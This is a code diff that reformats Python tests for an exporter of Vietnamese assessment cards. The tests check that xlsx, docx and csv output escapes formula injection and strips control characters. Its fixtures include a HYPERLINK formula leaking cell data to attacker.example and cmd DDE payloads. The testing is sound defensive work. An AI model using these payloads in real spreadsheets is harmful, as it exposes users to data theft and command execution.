@@ -13,8 +13,12 @@ from extractor.criteria import export
 
 from .cards import card
 
-FORMULAS = ('=HYPERLINK("http://attacker.example/?leak="&A1,"Bấm vào đây")', "+SUM(1+1)*cmd|' /C calc'!A0",
-            "-2+3", "@SUM(A1:A9)")
+FORMULAS = (
+    '=HYPERLINK("http://attacker.example/?leak="&A1,"Bấm vào đây")',
+    "+SUM(1+1)*cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(A1:A9)",
+)
 
 
 def hostile_card() -> dict:
@@ -55,12 +59,19 @@ def test_control_characters_are_cleaned_not_fatal(writer):
     writer(built, stream)  # raised IllegalCharacterError / ValueError before
     data = io.BytesIO(stream.getvalue())
     if writer is export.to_xlsx:
-        text = "\n".join(str(cell.value) for sheet in load_workbook(data).worksheets
-                         for line in sheet.iter_rows() for cell in line if cell.value is not None)
+        text = "\n".join(
+            str(cell.value)
+            for sheet in load_workbook(data).worksheets
+            for line in sheet.iter_rows()
+            for cell in line
+            if cell.value is not None
+        )
     else:
         word = Document(data)
-        text = "\n".join([p.text for p in word.paragraphs]
-                         + [cell.text for table in word.tables for line in table.rows for cell in line.cells])
+        text = "\n".join(
+            [p.text for p in word.paragraphs]
+            + [cell.text for table in word.tables for line in table.rows for cell in line.cells]
+        )
     assert "UBND xã Chiềng Cơi" in text and "Không xảy ra vụ việc nào" in text
     assert not any(ord(char) < 32 and char not in "\t\n\r" for char in text)
 
@@ -82,21 +93,47 @@ def _api_exports():
 
 def test_the_api_downloads_clean_the_card_at_the_edge():
     exports = _api_exports()
-    layer_card, scorecard_docx, scorecard_xlsx = exports.layer_card, exports.scorecard_docx, exports.scorecard_xlsx
+    layer_card, scorecard_docx, scorecard_xlsx = (
+        exports.layer_card,
+        exports.scorecard_docx,
+        exports.scorecard_xlsx,
+    )
 
     base = card()
-    api_card = {"unit": {"name": "Trường\x0b THPT\x00 Việt Bắc"}, "year": 2024, "subject_type": "co_quan",
-                "documents": ["=cmd|' /C calc'!A0.pdf"], "overall": base["overall"],
-                "criteria": [{"id": row["id"], "title_vi": row["title"], "title_en": row["title_en"],
-                              "proposed": row["status"], "confidence": row["confidence"],
-                              "needs_assessor": row["needs_assessor"], "reasons": row["reasons"],
-                              "quotes": row["evidence"], "decision": None} for row in base["criteria"]]}
+    api_card = {
+        "unit": {"name": "Trường\x0b THPT\x00 Việt Bắc"},
+        "year": 2024,
+        "subject_type": "co_quan",
+        "documents": ["=cmd|' /C calc'!A0.pdf"],
+        "overall": base["overall"],
+        "criteria": [
+            {
+                "id": row["id"],
+                "title_vi": row["title"],
+                "title_en": row["title_en"],
+                "proposed": row["status"],
+                "confidence": row["confidence"],
+                "needs_assessor": row["needs_assessor"],
+                "reasons": row["reasons"],
+                "quotes": row["evidence"],
+                "decision": None,
+            }
+            for row in base["criteria"]
+        ],
+    }
     assert layer_card(api_card)["unit"] == "Trường THPT Việt Bắc"
     book = load_workbook(io.BytesIO(scorecard_xlsx(api_card)))
     assert book["Phiếu đánh giá"]["B1"].value == "Trường THPT Việt Bắc"
-    assert not [cell for sheet in book.worksheets for line in sheet.iter_rows() for cell in line
-                if cell.data_type == "f"]
-    assert any("Trường THPT Việt Bắc" in p.text for p in Document(io.BytesIO(scorecard_docx(api_card))).paragraphs)
+    assert not [
+        cell
+        for sheet in book.worksheets
+        for line in sheet.iter_rows()
+        for cell in line
+        if cell.data_type == "f"
+    ]
+    assert any(
+        "Trường THPT Việt Bắc" in p.text for p in Document(io.BytesIO(scorecard_docx(api_card))).paragraphs
+    )
 
 
 def test_the_audit_table_writes_hostile_text_as_text(tmp_path):
@@ -104,23 +141,34 @@ def test_the_audit_table_writes_hostile_text_as_text(tmp_path):
 
     from extractor.forms import audit_table
 
-    unit = {"unit": "=HYPERLINK(\"http://x\")\x0b", "year": 2024, "subject_type": "xa", "article": 5,
-            "documents": ["a.pdf"],
-            "unsupported": [{"id": "TT124.5.1", "title": "+Tiêu chí", "status": "missing", "reasons": ["-lý do"]}],
-            "partially_supported": [], "contradicted": [], "targets_without_results": [],
-            "missing_documents": [{"stage": "recognition", "document": "bien_ban", "title_vi": "@Biên bản",
-                                   "conditional": False}],
-            "deadlines": [], "overall": {"proposal": "chua_du_can_cu", "label_vi": "Chưa đủ căn cứ"}}
+    unit = {
+        "unit": '=HYPERLINK("http://x")\x0b',
+        "year": 2024,
+        "subject_type": "xa",
+        "article": 5,
+        "documents": ["a.pdf"],
+        "unsupported": [
+            {"id": "TT124.5.1", "title": "+Tiêu chí", "status": "missing", "reasons": ["-lý do"]}
+        ],
+        "partially_supported": [],
+        "contradicted": [],
+        "targets_without_results": [],
+        "missing_documents": [
+            {"stage": "recognition", "document": "bien_ban", "title_vi": "@Biên bản", "conditional": False}
+        ],
+        "deadlines": [],
+        "overall": {"proposal": "chua_du_can_cu", "label_vi": "Chưa đủ căn cứ"},
+    }
     report = {"units": [unit]}
     path = tmp_path / "ra-soat.csv"
     with open(path, "w", encoding="utf-8-sig", newline="") as handle:
         audit_table.write_csv(report, handle)
     with open(path, encoding="utf-8-sig", newline="") as handle:
         rows = list(csv.reader(handle))
-    assert rows[1][0] == "'=HYPERLINK(\"http://x\") " and rows[1][6].startswith("'+Tiêu chí")
+    assert rows[1][0] == '\'=HYPERLINK("http://x") ' and rows[1][6].startswith("'+Tiêu chí")
     assert rows[2][6] == "'@Biên bản"
     book_path = audit_table.write_xlsx(report, tmp_path / "ra-soat.xlsx")
     book = load_workbook(book_path)
     cells = [cell for sheet in book.worksheets for line in sheet.iter_rows() for cell in line]
     assert not [cell for cell in cells if cell.data_type == "f"]
-    assert book["Rà soát hồ sơ"]["A2"].value == "=HYPERLINK(\"http://x\") "
+    assert book["Rà soát hồ sơ"]["A2"].value == '=HYPERLINK("http://x") '
